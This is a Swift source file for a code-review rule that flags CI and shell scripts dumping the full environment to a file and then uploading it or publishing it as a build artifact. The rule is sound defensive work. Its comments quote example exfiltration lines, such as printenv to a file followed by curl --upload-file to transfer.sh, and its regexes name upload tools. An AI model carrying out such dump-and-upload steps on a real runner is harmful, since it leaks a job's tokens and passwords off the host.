import Manifest

/// `ci.secrets-exfiltration` across a script: the whole environment written to a file (`printenv | sort >
/// "$OUT/job-env.txt"`) and a file sent off the host by the same change (`curl --upload-file "$BUNDLE"
/// https://transfer.sh/…`, `scp`, `aws s3 cp` to a bucket), however far apart. On a CI runner, or a machine that
/// deploys, the environment holds the job's tokens and passwords; what the script bundles and uploads carries them.
/// A dump filtered down to some names (`env | grep ^APP_`) or masked (`sed 's/=.*/=***/'`) is not the whole
/// environment. ``CIRules`` reads a dump and a sender within one step of a pipeline file. In a pipeline file, a job's
/// published artifacts are sent off the runner too: a dump written under a path the file stores as an artifact
/// (CircleCI's `store_artifacts: path: /tmp/artifacts`, `actions/upload-artifact`'s `path:`, GitLab's `paths:`,
/// Jenkins's `archiveArtifacts artifacts: 'build-env.txt'`)
/// is downloadable by whoever can read the build.
struct EnvironmentDumpUploaded: FileCheck {
    let kinds: Set<ReviewedFile.Kind> = [.shell, .ci]

    func findings(in file: ChangedFile) -> [ReviewFinding] {
        let added = file.visible.filter(\.isAdded)
        guard let dump = added.first(where: { Self.mayDump($0.text) && Self.dumpToFile.matches($0.text) }) else {
            return []
        }
        let line: ChangedFile.Line
        let sent: String
        if let upload = added.first(where: { Self.mayUpload($0.text) && Self.upload.matches($0.text) }) {
            line = upload
            sent = "written to a file (line \(dump.number)) and the change sends files off the host here"
        } else if file.file.kind == .ci, let published = Self.publishedPath(of: dump, in: file.visible) {
            line = dump
            sent = "written under `\(published)`, which the pipeline publishes as an artifact"
        } else {
            return []
        }
        return [
            file.finding(
                "ci.secrets-exfiltration", .high, on: line,
                message: "the whole environment is " + sent + ": the job's tokens and passwords go with it; collect "
                    + "only the variables you need, masked", content: line.text)
        ]
    }

    /// The artifact path the pipeline publishes that holds the file `dump` writes, if any.
    private static func publishedPath(of dump: ChangedFile.Line, in lines: [ChangedFile.Line]) -> String? {
        guard let target = dumpTarget.firstMatch(in: dump.text, capture: 1),
            lines.contains(where: { line in artifactWords.contains(where: line.text.hasBytes) })
        else { return nil }
        let written = target.hasPrefix("/") || target.hasPrefix("$") ? target : "./" + target
        return lines.lazy.compactMap { artifactPath.firstMatch(in: $0.text, capture: 1) }.map { path in
            var published = String(path)
            if !published.hasPrefix("/") && !published.hasPrefix("$") && !published.hasPrefix("./") {
                published = "./" + published
            }
            while published.count > 1, published.hasSuffix("/") { published.removeLast() }
            return published
        }.first { written == $0 || written.hasPrefix($0 + "/") }
    }

    /// Words of a step that publishes artifacts.
    private static let artifactWords = [
        "store_artifacts", "upload-artifact", "artifacts:", "artifact_paths", "archiveArtifacts",
    ]
    /// The file a dump writes (group 1): `printenv | sort > /tmp/artifacts/debug/environment.txt`.
    private static let dumpTarget = LinePattern(#">\s*["']?([^\s"'&;|]+)"#)
    /// A path a pipeline stores as an artifact (group 1): `path: /tmp/artifacts`, a `- debug/` entry of `paths:`,
    /// Jenkins's `archiveArtifacts artifacts: 'build-env.txt', …`.
    private static let artifactPath = LinePattern(
        #"^\s*(?:(?:-\s+)?(?:path|paths|artifact_paths)\s*:\s*|-\s+(?=\S*[/.])|"#
            + #"archiveArtifacts\s*\(?\s*(?:artifacts\s*:\s*)?(?=["']))"#
            + #"["']?((?:/|\./|\$\{?\w+\}?/)?[\w.-]+(?:/[\w.*-]+)*/?)["']?(?:\s*$|\s*[,)])"#)

    private static func mayDump(_ text: Substring) -> Bool {
        text.hasBytes(">") && ["env", "set", "export"].contains(where: text.hasBytes)
    }

    private static func mayUpload(_ text: Substring) -> Bool {
        ["curl", "scp", "rsync", "s3", "gsutil", "azcopy", "rclone"].contains(where: text.hasBytes)
    }

    /// The environment, unfiltered (sorted, encoded or compressed at most), written to a file.
    private static let dumpToFile = LinePattern(
        #"(?:^|[\s;&('"])(?:env|printenv|export\s+-p|set)\s*(?:\|\s*(?:sort|base64|gzip)\b[^|>\n]*)*>\s*[^&\s]"#)
    /// A file sent off the host: curl's upload and form-file options, `scp`/`rsync` to a remote, cloud storage copies.
    private static let upload = LinePattern(
        #"(?i)\bcurl\b[^\n]*\s(?:--upload-file|-T|(?:-F|--form)\s+["']?\w+=@|"#
            + #"--data(?:-binary|-raw)?\s+["']?@|-d\s+["']?@)|\b(?:scp|rsync)\b[^\n]*\s[\w.@-]+:\S|"#
            + #"\baws\s+s3\s+(?:cp|sync)\b[^\n]*\ss3://|\bgsutil\s+cp\b[^\n]*gs://|"#
            + #"\bazcopy\s+copy\b|\brclone\s+(?:copy|sync)\b"#)
}
